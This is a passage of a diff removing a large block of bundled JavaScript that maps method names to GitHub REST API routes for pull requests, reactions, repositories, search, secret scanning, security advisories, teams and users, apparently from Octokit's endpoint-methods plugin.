-          "POST /repos/{owner}/{repo}/pulls/{pull_number}/reviews/{review_id}/events"
-        ],
-        update: ["PATCH /repos/{owner}/{repo}/pulls/{pull_number}"],
-        updateBranch: [
-          "PUT /repos/{owner}/{repo}/pulls/{pull_number}/update-branch"
-        ],
-        updateReview: [
-          "PUT /repos/{owner}/{repo}/pulls/{pull_number}/reviews/{review_id}"
-        ],
-        updateReviewComment: [
-          "PATCH /repos/{owner}/{repo}/pulls/comments/{comment_id}"
-        ]
-      },
-      rateLimit: { get: ["GET /rate_limit"] },
-      reactions: {
-        createForCommitComment: [
-          "POST /repos/{owner}/{repo}/comments/{comment_id}/reactions"
-        ],
-        createForIssue: [
-          "POST /repos/{owner}/{repo}/issues/{issue_number}/reactions"
-        ],
-        createForIssueComment: [
-          "POST /repos/{owner}/{repo}/issues/comments/{comment_id}/reactions"
-        ],
-        createForPullRequestReviewComment: [
-          "POST /repos/{owner}/{repo}/pulls/comments/{comment_id}/reactions"
-        ],
-        createForRelease: [
-          "POST /repos/{owner}/{repo}/releases/{release_id}/reactions"
-        ],
-        createForTeamDiscussionCommentInOrg: [
-          "POST /orgs/{org}/teams/{team_slug}/discussions/{discussion_number}/comments/{comment_number}/reactions"
-        ],
-        createForTeamDiscussionInOrg: [
-          "POST /orgs/{org}/teams/{team_slug}/discussions/{discussion_number}/reactions"
-        ],
-        deleteForCommitComment: [
-          "DELETE /repos/{owner}/{repo}/comments/{comment_id}/reactions/{reaction_id}"
-        ],
-        deleteForIssue: [
-          "DELETE /repos/{owner}/{repo}/issues/{issue_number}/reactions/{reaction_id}"
-        ],
-        deleteForIssueComment: [
-          "DELETE /repos/{owner}/{repo}/issues/comments/{comment_id}/reactions/{reaction_id}"
-        ],
-        deleteForPullRequestComment: [
-          "DELETE /repos/{owner}/{repo}/pulls/comments/{comment_id}/reactions/{reaction_id}"
-        ],
-        deleteForRelease: [
-          "DELETE /repos/{owner}/{repo}/releases/{release_id}/reactions/{reaction_id}"
-        ],
-        deleteForTeamDiscussion: [
-          "DELETE /orgs/{org}/teams/{team_slug}/discussions/{discussion_number}/reactions/{reaction_id}"
-        ],
-        deleteForTeamDiscussionComment: [
-          "DELETE /orgs/{org}/teams/{team_slug}/discussions/{discussion_number}/comments/{comment_number}/reactions/{reaction_id}"
-        ],
-        listForCommitComment: [
-          "GET /repos/{owner}/{repo}/comments/{comment_id}/reactions"
-        ],
-        listForIssue: ["GET /repos/{owner}/{repo}/issues/{issue_number}/reactions"],
-        listForIssueComment: [
-          "GET /repos/{owner}/{repo}/issues/comments/{comment_id}/reactions"
-        ],
-        listForPullRequestReviewComment: [
-          "GET /repos/{owner}/{repo}/pulls/comments/{comment_id}/reactions"
-        ],
-        listForRelease: [
-          "GET /repos/{owner}/{repo}/releases/{release_id}/reactions"
-        ],
-        listForTeamDiscussionCommentInOrg: [
-          "GET /orgs/{org}/teams/{team_slug}/discussions/{discussion_number}/comments/{comment_number}/reactions"
-        ],
-        listForTeamDiscussionInOrg: [
-          "GET /orgs/{org}/teams/{team_slug}/discussions/{discussion_number}/reactions"
-        ]
-      },
-      repos: {
-        acceptInvitation: [
-          "PATCH /user/repository_invitations/{invitation_id}",
-          {},
-          { renamed: ["repos", "acceptInvitationForAuthenticatedUser"] }
-        ],
-        acceptInvitationForAuthenticatedUser: [
-          "PATCH /user/repository_invitations/{invitation_id}"
-        ],
-        addAppAccessRestrictions: [
-          "POST /repos/{owner}/{repo}/branches/{branch}/protection/restrictions/apps",
-          {},
-          { mapToData: "apps" }
-        ],
-        addCollaborator: ["PUT /repos/{owner}/{repo}/collaborators/{username}"],
-        addStatusCheckContexts: [
-          "POST /repos/{owner}/{repo}/branches/{branch}/protection/required_status_checks/contexts",
-          {},
-          { mapToData: "contexts" }
-        ],
-        addTeamAccessRestrictions: [
-          "POST /repos/{owner}/{repo}/branches/{branch}/protection/restrictions/teams",
-          {},
-          { mapToData: "teams" }
-        ],
-        addUserAccessRestrictions: [
-          "POST /repos/{owner}/{repo}/branches/{branch}/protection/restrictions/users",
-          {},
-          { mapToData: "users" }
-        ],
-        cancelPagesDeployment: [
-          "POST /repos/{owner}/{repo}/pages/deployments/{pages_deployment_id}/cancel"
-        ],
-        checkAutomatedSecurityFixes: [
-          "GET /repos/{owner}/{repo}/automated-security-fixes"
-        ],
-        checkCollaborator: ["GET /repos/{owner}/{repo}/collaborators/{username}"],
-        checkPrivateVulnerabilityReporting: [
-          "GET /repos/{owner}/{repo}/private-vulnerability-reporting"
-        ],
-        checkVulnerabilityAlerts: [
-          "GET /repos/{owner}/{repo}/vulnerability-alerts"
-        ],
-        codeownersErrors: ["GET /repos/{owner}/{repo}/codeowners/errors"],
-        compareCommits: ["GET /repos/{owner}/{repo}/compare/{base}...{head}"],
-        compareCommitsWithBasehead: [
-          "GET /repos/{owner}/{repo}/compare/{basehead}"
-        ],
-        createAttestation: ["POST /repos/{owner}/{repo}/attestations"],
-        createAutolink: ["POST /repos/{owner}/{repo}/autolinks"],
-        createCommitComment: [
-          "POST /repos/{owner}/{repo}/commits/{commit_sha}/comments"
-        ],
-        createCommitSignatureProtection: [
-          "POST /repos/{owner}/{repo}/branches/{branch}/protection/required_signatures"
-        ],
-        createCommitStatus: ["POST /repos/{owner}/{repo}/statuses/{sha}"],
-        createDeployKey: ["POST /repos/{owner}/{repo}/keys"],
-        createDeployment: ["POST /repos/{owner}/{repo}/deployments"],
-        createDeploymentBranchPolicy: [
-          "POST /repos/{owner}/{repo}/environments/{environment_name}/deployment-branch-policies"
-        ],
-        createDeploymentProtectionRule: [
-          "POST /repos/{owner}/{repo}/environments/{environment_name}/deployment_protection_rules"
-        ],
-        createDeploymentStatus: [
-          "POST /repos/{owner}/{repo}/deployments/{deployment_id}/statuses"
-        ],
-        createDispatchEvent: ["POST /repos/{owner}/{repo}/dispatches"],
-        createForAuthenticatedUser: ["POST /user/repos"],
-        createFork: ["POST /repos/{owner}/{repo}/forks"],
-        createInOrg: ["POST /orgs/{org}/repos"],
-        createOrUpdateCustomPropertiesValues: [
-          "PATCH /repos/{owner}/{repo}/properties/values"
-        ],
-        createOrUpdateEnvironment: [
-          "PUT /repos/{owner}/{repo}/environments/{environment_name}"
-        ],
-        createOrUpdateFileContents: ["PUT /repos/{owner}/{repo}/contents/{path}"],
-        createOrgRuleset: ["POST /orgs/{org}/rulesets"],
-        createPagesDeployment: ["POST /repos/{owner}/{repo}/pages/deployments"],
-        createPagesSite: ["POST /repos/{owner}/{repo}/pages"],
-        createRelease: ["POST /repos/{owner}/{repo}/releases"],
-        createRepoRuleset: ["POST /repos/{owner}/{repo}/rulesets"],
-        createUsingTemplate: [
-          "POST /repos/{template_owner}/{template_repo}/generate"
-        ],
-        createWebhook: ["POST /repos/{owner}/{repo}/hooks"],
-        declineInvitation: [
-          "DELETE /user/repository_invitations/{invitation_id}",
-          {},
-          { renamed: ["repos", "declineInvitationForAuthenticatedUser"] }
-        ],
-        declineInvitationForAuthenticatedUser: [
-          "DELETE /user/repository_invitations/{invitation_id}"
-        ],
-        delete: ["DELETE /repos/{owner}/{repo}"],
-        deleteAccessRestrictions: [
-          "DELETE /repos/{owner}/{repo}/branches/{branch}/protection/restrictions"
-        ],
-        deleteAdminBranchProtection: [
-          "DELETE /repos/{owner}/{repo}/branches/{branch}/protection/enforce_admins"
-        ],
-        deleteAnEnvironment: [
-          "DELETE /repos/{owner}/{repo}/environments/{environment_name}"
-        ],
-        deleteAutolink: ["DELETE /repos/{owner}/{repo}/autolinks/{autolink_id}"],
-        deleteBranchProtection: [
-          "DELETE /repos/{owner}/{repo}/branches/{branch}/protection"
-        ],
-        deleteCommitComment: ["DELETE /repos/{owner}/{repo}/comments/{comment_id}"],
-        deleteCommitSignatureProtection: [
-          "DELETE /repos/{owner}/{repo}/branches/{branch}/protection/required_signatures"
-        ],
-        deleteDeployKey: ["DELETE /repos/{owner}/{repo}/keys/{key_id}"],
-        deleteDeployment: [
-          "DELETE /repos/{owner}/{repo}/deployments/{deployment_id}"
-        ],
-        deleteDeploymentBranchPolicy: [
-          "DELETE /repos/{owner}/{repo}/environments/{environment_name}/deployment-branch-policies/{branch_policy_id}"
-        ],
-        deleteFile: ["DELETE /repos/{owner}/{repo}/contents/{path}"],
-        deleteInvitation: [
-          "DELETE /repos/{owner}/{repo}/invitations/{invitation_id}"
-        ],
-        deleteOrgRuleset: ["DELETE /orgs/{org}/rulesets/{ruleset_id}"],
-        deletePagesSite: ["DELETE /repos/{owner}/{repo}/pages"],
-        deletePullRequestReviewProtection: [
-          "DELETE /repos/{owner}/{repo}/branches/{branch}/protection/required_pull_request_reviews"
-        ],
-        deleteRelease: ["DELETE /repos/{owner}/{repo}/releases/{release_id}"],
-        deleteReleaseAsset: [
-          "DELETE /repos/{owner}/{repo}/releases/assets/{asset_id}"
-        ],
-        deleteRepoRuleset: ["DELETE /repos/{owner}/{repo}/rulesets/{ruleset_id}"],
-        deleteWebhook: ["DELETE /repos/{owner}/{repo}/hooks/{hook_id}"],
-        disableAutomatedSecurityFixes: [
-          "DELETE /repos/{owner}/{repo}/automated-security-fixes"
-        ],
-        disableDeploymentProtectionRule: [
-          "DELETE /repos/{owner}/{repo}/environments/{environment_name}/deployment_protection_rules/{protection_rule_id}"
-        ],
-        disablePrivateVulnerabilityReporting: [
-          "DELETE /repos/{owner}/{repo}/private-vulnerability-reporting"
-        ],
-        disableVulnerabilityAlerts: [
-          "DELETE /repos/{owner}/{repo}/vulnerability-alerts"
-        ],
-        downloadArchive: [
-          "GET /repos/{owner}/{repo}/zipball/{ref}",
-          {},
-          { renamed: ["repos", "downloadZipballArchive"] }
-        ],
-        downloadTarballArchive: ["GET /repos/{owner}/{repo}/tarball/{ref}"],
-        downloadZipballArchive: ["GET /repos/{owner}/{repo}/zipball/{ref}"],
-        enableAutomatedSecurityFixes: [
-          "PUT /repos/{owner}/{repo}/automated-security-fixes"
-        ],
-        enablePrivateVulnerabilityReporting: [
-          "PUT /repos/{owner}/{repo}/private-vulnerability-reporting"
-        ],
-        enableVulnerabilityAlerts: [
-          "PUT /repos/{owner}/{repo}/vulnerability-alerts"
-        ],
-        generateReleaseNotes: [
-          "POST /repos/{owner}/{repo}/releases/generate-notes"
-        ],
-        get: ["GET /repos/{owner}/{repo}"],
-        getAccessRestrictions: [
-          "GET /repos/{owner}/{repo}/branches/{branch}/protection/restrictions"
-        ],
-        getAdminBranchProtection: [
-          "GET /repos/{owner}/{repo}/branches/{branch}/protection/enforce_admins"
-        ],
-        getAllDeploymentProtectionRules: [
-          "GET /repos/{owner}/{repo}/environments/{environment_name}/deployment_protection_rules"
-        ],
-        getAllEnvironments: ["GET /repos/{owner}/{repo}/environments"],
-        getAllStatusCheckContexts: [
-          "GET /repos/{owner}/{repo}/branches/{branch}/protection/required_status_checks/contexts"
-        ],
-        getAllTopics: ["GET /repos/{owner}/{repo}/topics"],
-        getAppsWithAccessToProtectedBranch: [
-          "GET /repos/{owner}/{repo}/branches/{branch}/protection/restrictions/apps"
-        ],
-        getAutolink: ["GET /repos/{owner}/{repo}/autolinks/{autolink_id}"],
-        getBranch: ["GET /repos/{owner}/{repo}/branches/{branch}"],
-        getBranchProtection: [
-          "GET /repos/{owner}/{repo}/branches/{branch}/protection"
-        ],
-        getBranchRules: ["GET /repos/{owner}/{repo}/rules/branches/{branch}"],
-        getClones: ["GET /repos/{owner}/{repo}/traffic/clones"],
-        getCodeFrequencyStats: ["GET /repos/{owner}/{repo}/stats/code_frequency"],
-        getCollaboratorPermissionLevel: [
-          "GET /repos/{owner}/{repo}/collaborators/{username}/permission"
-        ],
-        getCombinedStatusForRef: ["GET /repos/{owner}/{repo}/commits/{ref}/status"],
-        getCommit: ["GET /repos/{owner}/{repo}/commits/{ref}"],
-        getCommitActivityStats: ["GET /repos/{owner}/{repo}/stats/commit_activity"],
-        getCommitComment: ["GET /repos/{owner}/{repo}/comments/{comment_id}"],
-        getCommitSignatureProtection: [
-          "GET /repos/{owner}/{repo}/branches/{branch}/protection/required_signatures"
-        ],
-        getCommunityProfileMetrics: ["GET /repos/{owner}/{repo}/community/profile"],
-        getContent: ["GET /repos/{owner}/{repo}/contents/{path}"],
-        getContributorsStats: ["GET /repos/{owner}/{repo}/stats/contributors"],
-        getCustomDeploymentProtectionRule: [
-          "GET /repos/{owner}/{repo}/environments/{environment_name}/deployment_protection_rules/{protection_rule_id}"
-        ],
-        getCustomPropertiesValues: ["GET /repos/{owner}/{repo}/properties/values"],
-        getDeployKey: ["GET /repos/{owner}/{repo}/keys/{key_id}"],
-        getDeployment: ["GET /repos/{owner}/{repo}/deployments/{deployment_id}"],
-        getDeploymentBranchPolicy: [
-          "GET /repos/{owner}/{repo}/environments/{environment_name}/deployment-branch-policies/{branch_policy_id}"
-        ],
-        getDeploymentStatus: [
-          "GET /repos/{owner}/{repo}/deployments/{deployment_id}/statuses/{status_id}"
-        ],
-        getEnvironment: [
-          "GET /repos/{owner}/{repo}/environments/{environment_name}"
-        ],
-        getLatestPagesBuild: ["GET /repos/{owner}/{repo}/pages/builds/latest"],
-        getLatestRelease: ["GET /repos/{owner}/{repo}/releases/latest"],
-        getOrgRuleSuite: ["GET /orgs/{org}/rulesets/rule-suites/{rule_suite_id}"],
-        getOrgRuleSuites: ["GET /orgs/{org}/rulesets/rule-suites"],
-        getOrgRuleset: ["GET /orgs/{org}/rulesets/{ruleset_id}"],
-        getOrgRulesets: ["GET /orgs/{org}/rulesets"],
-        getPages: ["GET /repos/{owner}/{repo}/pages"],
-        getPagesBuild: ["GET /repos/{owner}/{repo}/pages/builds/{build_id}"],
-        getPagesDeployment: [
-          "GET /repos/{owner}/{repo}/pages/deployments/{pages_deployment_id}"
-        ],
-        getPagesHealthCheck: ["GET /repos/{owner}/{repo}/pages/health"],
-        getParticipationStats: ["GET /repos/{owner}/{repo}/stats/participation"],
-        getPullRequestReviewProtection: [
-          "GET /repos/{owner}/{repo}/branches/{branch}/protection/required_pull_request_reviews"
-        ],
-        getPunchCardStats: ["GET /repos/{owner}/{repo}/stats/punch_card"],
-        getReadme: ["GET /repos/{owner}/{repo}/readme"],
-        getReadmeInDirectory: ["GET /repos/{owner}/{repo}/readme/{dir}"],
-        getRelease: ["GET /repos/{owner}/{repo}/releases/{release_id}"],
-        getReleaseAsset: ["GET /repos/{owner}/{repo}/releases/assets/{asset_id}"],
-        getReleaseByTag: ["GET /repos/{owner}/{repo}/releases/tags/{tag}"],
-        getRepoRuleSuite: [
-          "GET /repos/{owner}/{repo}/rulesets/rule-suites/{rule_suite_id}"
-        ],
-        getRepoRuleSuites: ["GET /repos/{owner}/{repo}/rulesets/rule-suites"],
-        getRepoRuleset: ["GET /repos/{owner}/{repo}/rulesets/{ruleset_id}"],
-        getRepoRulesets: ["GET /repos/{owner}/{repo}/rulesets"],
-        getStatusChecksProtection: [
-          "GET /repos/{owner}/{repo}/branches/{branch}/protection/required_status_checks"
-        ],
-        getTeamsWithAccessToProtectedBranch: [
-          "GET /repos/{owner}/{repo}/branches/{branch}/protection/restrictions/teams"
-        ],
-        getTopPaths: ["GET /repos/{owner}/{repo}/traffic/popular/paths"],
-        getTopReferrers: ["GET /repos/{owner}/{repo}/traffic/popular/referrers"],
-        getUsersWithAccessToProtectedBranch: [
-          "GET /repos/{owner}/{repo}/branches/{branch}/protection/restrictions/users"
-        ],
-        getViews: ["GET /repos/{owner}/{repo}/traffic/views"],
-        getWebhook: ["GET /repos/{owner}/{repo}/hooks/{hook_id}"],
-        getWebhookConfigForRepo: [
-          "GET /repos/{owner}/{repo}/hooks/{hook_id}/config"
-        ],
-        getWebhookDelivery: [
-          "GET /repos/{owner}/{repo}/hooks/{hook_id}/deliveries/{delivery_id}"
-        ],
-        listActivities: ["GET /repos/{owner}/{repo}/activity"],
-        listAttestations: [
-          "GET /repos/{owner}/{repo}/attestations/{subject_digest}"
-        ],
-        listAutolinks: ["GET /repos/{owner}/{repo}/autolinks"],
-        listBranches: ["GET /repos/{owner}/{repo}/branches"],
-        listBranchesForHeadCommit: [
-          "GET /repos/{owner}/{repo}/commits/{commit_sha}/branches-where-head"
-        ],
-        listCollaborators: ["GET /repos/{owner}/{repo}/collaborators"],
-        listCommentsForCommit: [
-          "GET /repos/{owner}/{repo}/commits/{commit_sha}/comments"
-        ],
-        listCommitCommentsForRepo: ["GET /repos/{owner}/{repo}/comments"],
-        listCommitStatusesForRef: [
-          "GET /repos/{owner}/{repo}/commits/{ref}/statuses"
-        ],
-        listCommits: ["GET /repos/{owner}/{repo}/commits"],
-        listContributors: ["GET /repos/{owner}/{repo}/contributors"],
-        listCustomDeploymentRuleIntegrations: [
-          "GET /repos/{owner}/{repo}/environments/{environment_name}/deployment_protection_rules/apps"
-        ],
-        listDeployKeys: ["GET /repos/{owner}/{repo}/keys"],
-        listDeploymentBranchPolicies: [
-          "GET /repos/{owner}/{repo}/environments/{environment_name}/deployment-branch-policies"
-        ],
-        listDeploymentStatuses: [
-          "GET /repos/{owner}/{repo}/deployments/{deployment_id}/statuses"
-        ],
-        listDeployments: ["GET /repos/{owner}/{repo}/deployments"],
-        listForAuthenticatedUser: ["GET /user/repos"],
-        listForOrg: ["GET /orgs/{org}/repos"],
-        listForUser: ["GET /users/{username}/repos"],
-        listForks: ["GET /repos/{owner}/{repo}/forks"],
-        listInvitations: ["GET /repos/{owner}/{repo}/invitations"],
-        listInvitationsForAuthenticatedUser: ["GET /user/repository_invitations"],
-        listLanguages: ["GET /repos/{owner}/{repo}/languages"],
-        listPagesBuilds: ["GET /repos/{owner}/{repo}/pages/builds"],
-        listPublic: ["GET /repositories"],
-        listPullRequestsAssociatedWithCommit: [
-          "GET /repos/{owner}/{repo}/commits/{commit_sha}/pulls"
-        ],
-        listReleaseAssets: [
-          "GET /repos/{owner}/{repo}/releases/{release_id}/assets"
-        ],
-        listReleases: ["GET /repos/{owner}/{repo}/releases"],
-        listTags: ["GET /repos/{owner}/{repo}/tags"],
-        listTeams: ["GET /repos/{owner}/{repo}/teams"],
-        listWebhookDeliveries: [
-          "GET /repos/{owner}/{repo}/hooks/{hook_id}/deliveries"
-        ],
-        listWebhooks: ["GET /repos/{owner}/{repo}/hooks"],
-        merge: ["POST /repos/{owner}/{repo}/merges"],
-        mergeUpstream: ["POST /repos/{owner}/{repo}/merge-upstream"],
-        pingWebhook: ["POST /repos/{owner}/{repo}/hooks/{hook_id}/pings"],
-        redeliverWebhookDelivery: [
-          "POST /repos/{owner}/{repo}/hooks/{hook_id}/deliveries/{delivery_id}/attempts"
-        ],
-        removeAppAccessRestrictions: [
-          "DELETE /repos/{owner}/{repo}/branches/{branch}/protection/restrictions/apps",
-          {},
-          { mapToData: "apps" }
-        ],
-        removeCollaborator: [
-          "DELETE /repos/{owner}/{repo}/collaborators/{username}"
-        ],
-        removeStatusCheckContexts: [
-          "DELETE /repos/{owner}/{repo}/branches/{branch}/protection/required_status_checks/contexts",
-          {},
-          { mapToData: "contexts" }
-        ],
-        removeStatusCheckProtection: [
-          "DELETE /repos/{owner}/{repo}/branches/{branch}/protection/required_status_checks"
-        ],
-        removeTeamAccessRestrictions: [
-          "DELETE /repos/{owner}/{repo}/branches/{branch}/protection/restrictions/teams",
-          {},
-          { mapToData: "teams" }
-        ],
-        removeUserAccessRestrictions: [
-          "DELETE /repos/{owner}/{repo}/branches/{branch}/protection/restrictions/users",
-          {},
-          { mapToData: "users" }
-        ],
-        renameBranch: ["POST /repos/{owner}/{repo}/branches/{branch}/rename"],
-        replaceAllTopics: ["PUT /repos/{owner}/{repo}/topics"],
-        requestPagesBuild: ["POST /repos/{owner}/{repo}/pages/builds"],
-        setAdminBranchProtection: [
-          "POST /repos/{owner}/{repo}/branches/{branch}/protection/enforce_admins"
-        ],
-        setAppAccessRestrictions: [
-          "PUT /repos/{owner}/{repo}/branches/{branch}/protection/restrictions/apps",
-          {},
-          { mapToData: "apps" }
-        ],
-        setStatusCheckContexts: [
-          "PUT /repos/{owner}/{repo}/branches/{branch}/protection/required_status_checks/contexts",
-          {},
-          { mapToData: "contexts" }
-        ],
-        setTeamAccessRestrictions: [
-          "PUT /repos/{owner}/{repo}/branches/{branch}/protection/restrictions/teams",
-          {},
-          { mapToData: "teams" }
-        ],
-        setUserAccessRestrictions: [
-          "PUT /repos/{owner}/{repo}/branches/{branch}/protection/restrictions/users",
-          {},
-          { mapToData: "users" }
-        ],
-        testPushWebhook: ["POST /repos/{owner}/{repo}/hooks/{hook_id}/tests"],
-        transfer: ["POST /repos/{owner}/{repo}/transfer"],
-        update: ["PATCH /repos/{owner}/{repo}"],
-        updateBranchProtection: [
-          "PUT /repos/{owner}/{repo}/branches/{branch}/protection"
-        ],
-        updateCommitComment: ["PATCH /repos/{owner}/{repo}/comments/{comment_id}"],
-        updateDeploymentBranchPolicy: [
-          "PUT /repos/{owner}/{repo}/environments/{environment_name}/deployment-branch-policies/{branch_policy_id}"
-        ],
-        updateInformationAboutPagesSite: ["PUT /repos/{owner}/{repo}/pages"],
-        updateInvitation: [
-          "PATCH /repos/{owner}/{repo}/invitations/{invitation_id}"
-        ],
-        updateOrgRuleset: ["PUT /orgs/{org}/rulesets/{ruleset_id}"],
-        updatePullRequestReviewProtection: [
-          "PATCH /repos/{owner}/{repo}/branches/{branch}/protection/required_pull_request_reviews"
-        ],
-        updateRelease: ["PATCH /repos/{owner}/{repo}/releases/{release_id}"],
-        updateReleaseAsset: [
-          "PATCH /repos/{owner}/{repo}/releases/assets/{asset_id}"
-        ],
-        updateRepoRuleset: ["PUT /repos/{owner}/{repo}/rulesets/{ruleset_id}"],
-        updateStatusCheckPotection: [
-          "PATCH /repos/{owner}/{repo}/branches/{branch}/protection/required_status_checks",
-          {},
-          { renamed: ["repos", "updateStatusCheckProtection"] }
-        ],
-        updateStatusCheckProtection: [
-          "PATCH /repos/{owner}/{repo}/branches/{branch}/protection/required_status_checks"
-        ],
-        updateWebhook: ["PATCH /repos/{owner}/{repo}/hooks/{hook_id}"],
-        updateWebhookConfigForRepo: [
-          "PATCH /repos/{owner}/{repo}/hooks/{hook_id}/config"
-        ],
-        uploadReleaseAsset: [
-          "POST /repos/{owner}/{repo}/releases/{release_id}/assets{?name,label}",
-          { baseUrl: "https://uploads.github.com" }
-        ]
-      },
-      search: {
-        code: ["GET /search/code"],
-        commits: ["GET /search/commits"],
-        issuesAndPullRequests: ["GET /search/issues"],
-        labels: ["GET /search/labels"],
-        repos: ["GET /search/repositories"],
-        topics: ["GET /search/topics"],
-        users: ["GET /search/users"]
-      },
-      secretScanning: {
-        createPushProtectionBypass: [
-          "POST /repos/{owner}/{repo}/secret-scanning/push-protection-bypasses"
-        ],
-        getAlert: [
-          "GET /repos/{owner}/{repo}/secret-scanning/alerts/{alert_number}"
-        ],
-        getScanHistory: ["GET /repos/{owner}/{repo}/secret-scanning/scan-history"],
-        listAlertsForEnterprise: [
-          "GET /enterprises/{enterprise}/secret-scanning/alerts"
-        ],
-        listAlertsForOrg: ["GET /orgs/{org}/secret-scanning/alerts"],
-        listAlertsForRepo: ["GET /repos/{owner}/{repo}/secret-scanning/alerts"],
-        listLocationsForAlert: [
-          "GET /repos/{owner}/{repo}/secret-scanning/alerts/{alert_number}/locations"
-        ],
-        updateAlert: [
-          "PATCH /repos/{owner}/{repo}/secret-scanning/alerts/{alert_number}"
-        ]
-      },
-      securityAdvisories: {
-        createFork: [
-          "POST /repos/{owner}/{repo}/security-advisories/{ghsa_id}/forks"
-        ],
-        createPrivateVulnerabilityReport: [
-          "POST /repos/{owner}/{repo}/security-advisories/reports"
-        ],
-        createRepositoryAdvisory: [
-          "POST /repos/{owner}/{repo}/security-advisories"
-        ],
-        createRepositoryAdvisoryCveRequest: [
-          "POST /repos/{owner}/{repo}/security-advisories/{ghsa_id}/cve"
-        ],
-        getGlobalAdvisory: ["GET /advisories/{ghsa_id}"],
-        getRepositoryAdvisory: [
-          "GET /repos/{owner}/{repo}/security-advisories/{ghsa_id}"
-        ],
-        listGlobalAdvisories: ["GET /advisories"],
-        listOrgRepositoryAdvisories: ["GET /orgs/{org}/security-advisories"],
-        listRepositoryAdvisories: ["GET /repos/{owner}/{repo}/security-advisories"],
-        updateRepositoryAdvisory: [
-          "PATCH /repos/{owner}/{repo}/security-advisories/{ghsa_id}"
-        ]
-      },
-      teams: {
-        addOrUpdateMembershipForUserInOrg: [
-          "PUT /orgs/{org}/teams/{team_slug}/memberships/{username}"
-        ],
-        addOrUpdateProjectPermissionsInOrg: [
-          "PUT /orgs/{org}/teams/{team_slug}/projects/{project_id}"
-        ],
-        addOrUpdateRepoPermissionsInOrg: [
-          "PUT /orgs/{org}/teams/{team_slug}/repos/{owner}/{repo}"
-        ],
-        checkPermissionsForProjectInOrg: [
-          "GET /orgs/{org}/teams/{team_slug}/projects/{project_id}"
-        ],
-        checkPermissionsForRepoInOrg: [
-          "GET /orgs/{org}/teams/{team_slug}/repos/{owner}/{repo}"
-        ],
-        create: ["POST /orgs/{org}/teams"],
-        createDiscussionCommentInOrg: [
-          "POST /orgs/{org}/teams/{team_slug}/discussions/{discussion_number}/comments"
-        ],
-        createDiscussionInOrg: ["POST /orgs/{org}/teams/{team_slug}/discussions"],
-        deleteDiscussionCommentInOrg: [
-          "DELETE /orgs/{org}/teams/{team_slug}/discussions/{discussion_number}/comments/{comment_number}"
-        ],
-        deleteDiscussionInOrg: [
-          "DELETE /orgs/{org}/teams/{team_slug}/discussions/{discussion_number}"
-        ],
-        deleteInOrg: ["DELETE /orgs/{org}/teams/{team_slug}"],
-        getByName: ["GET /orgs/{org}/teams/{team_slug}"],
-        getDiscussionCommentInOrg: [
-          "GET /orgs/{org}/teams/{team_slug}/discussions/{discussion_number}/comments/{comment_number}"
-        ],
-        getDiscussionInOrg: [
-          "GET /orgs/{org}/teams/{team_slug}/discussions/{discussion_number}"
-        ],
-        getMembershipForUserInOrg: [
-          "GET /orgs/{org}/teams/{team_slug}/memberships/{username}"
-        ],
-        list: ["GET /orgs/{org}/teams"],
-        listChildInOrg: ["GET /orgs/{org}/teams/{team_slug}/teams"],
-        listDiscussionCommentsInOrg: [
-          "GET /orgs/{org}/teams/{team_slug}/discussions/{discussion_number}/comments"
-        ],
-        listDiscussionsInOrg: ["GET /orgs/{org}/teams/{team_slug}/discussions"],
-        listForAuthenticatedUser: ["GET /user/teams"],
-        listMembersInOrg: ["GET /orgs/{org}/teams/{team_slug}/members"],
-        listPendingInvitationsInOrg: [
-          "GET /orgs/{org}/teams/{team_slug}/invitations"
-        ],
-        listProjectsInOrg: ["GET /orgs/{org}/teams/{team_slug}/projects"],
-        listReposInOrg: ["GET /orgs/{org}/teams/{team_slug}/repos"],
-        removeMembershipForUserInOrg: [
-          "DELETE /orgs/{org}/teams/{team_slug}/memberships/{username}"
-        ],
-        removeProjectInOrg: [
-          "DELETE /orgs/{org}/teams/{team_slug}/projects/{project_id}"
-        ],
-        removeRepoInOrg: [
-          "DELETE /orgs/{org}/teams/{team_slug}/repos/{owner}/{repo}"
-        ],
-        updateDiscussionCommentInOrg: [
-          "PATCH /orgs/{org}/teams/{team_slug}/discussions/{discussion_number}/comments/{comment_number}"
-        ],
-        updateDiscussionInOrg: [
-          "PATCH /orgs/{org}/teams/{team_slug}/discussions/{discussion_number}"
-        ],
-        updateInOrg: ["PATCH /orgs/{org}/teams/{team_slug}"]
-      },
-      users: {
-        addEmailForAuthenticated: [
-          "POST /user/emails",
-          {},
-          { renamed: ["users", "addEmailForAuthenticatedUser"] }
-        ],
-        addEmailForAuthenticatedUser: ["POST /user/emails"],
-        addSocialAccountForAuthenticatedUser: ["POST /user/social_accounts"],
-        block: ["PUT /user/blocks/{username}"],
-        checkBlocked: ["GET /user/blocks/{username}"],
-        checkFollowingForUser: ["GET /users/{username}/following/{target_user}"],
-        checkPersonIsFollowedByAuthenticated: ["GET /user/following/{username}"],
-        createGpgKeyForAuthenticated: [
-          "POST /user/gpg_keys",
-          {},
-          { renamed: ["users", "createGpgKeyForAuthenticatedUser"] }
-        ],
-        createGpgKeyForAuthenticatedUser: ["POST /user/gpg_keys"],
-        createPublicSshKeyForAuthenticated: [
-          "POST /user/keys",
-          {},
-          { renamed: ["users", "createPublicSshKeyForAuthenticatedUser"] }
-        ],
-        createPublicSshKeyForAuthenticatedUser: ["POST /user/keys"],
-        createSshSigningKeyForAuthenticatedUser: ["POST /user/ssh_signing_keys"],
-        deleteEmailForAuthenticated: [
-          "DELETE /user/emails",
-          {},
-          { renamed: ["users", "deleteEmailForAuthenticatedUser"] }
-        ],
-        deleteEmailForAuthenticatedUser: ["DELETE /user/emails"],
-        deleteGpgKeyForAuthenticated: [
-          "DELETE /user/gpg_keys/{gpg_key_id}",
-          {},
-          { renamed: ["users", "deleteGpgKeyForAuthenticatedUser"] }
-        ],
-        deleteGpgKeyForAuthenticatedUser: ["DELETE /user/gpg_keys/{gpg_key_id}"],
-        deletePublicSshKeyForAuthenticated: [
-          "DELETE /user/keys/{key_id}",
-          {},
-          { renamed: ["users", "deletePublicSshKeyForAuthenticatedUser"] }
-        ],
-        deletePublicSshKeyForAuthenticatedUser: ["DELETE /user/keys/{key_id}"],
-        deleteSocialAccountForAuthenticatedUser: ["DELETE /user/social_accounts"],
-        deleteSshSigningKeyForAuthenticatedUser: [
-          "DELETE /user/ssh_signing_keys/{ssh_signing_key_id}"
-        ],
-        follow: ["PUT /user/following/{username}"],
-        getAuthenticated: ["GET /user"],
-        getById: ["GET /user/{account_id}"],
-        getByUsername: ["GET /users/{username}"],
-        getContextForUser: ["GET /users/{username}/hovercard"],
-        getGpgKeyForAuthenticated: [
-          "GET /user/gpg_keys/{gpg_key_id}",
-          {},
-          { renamed: ["users", "getGpgKeyForAuthenticatedUser"] }
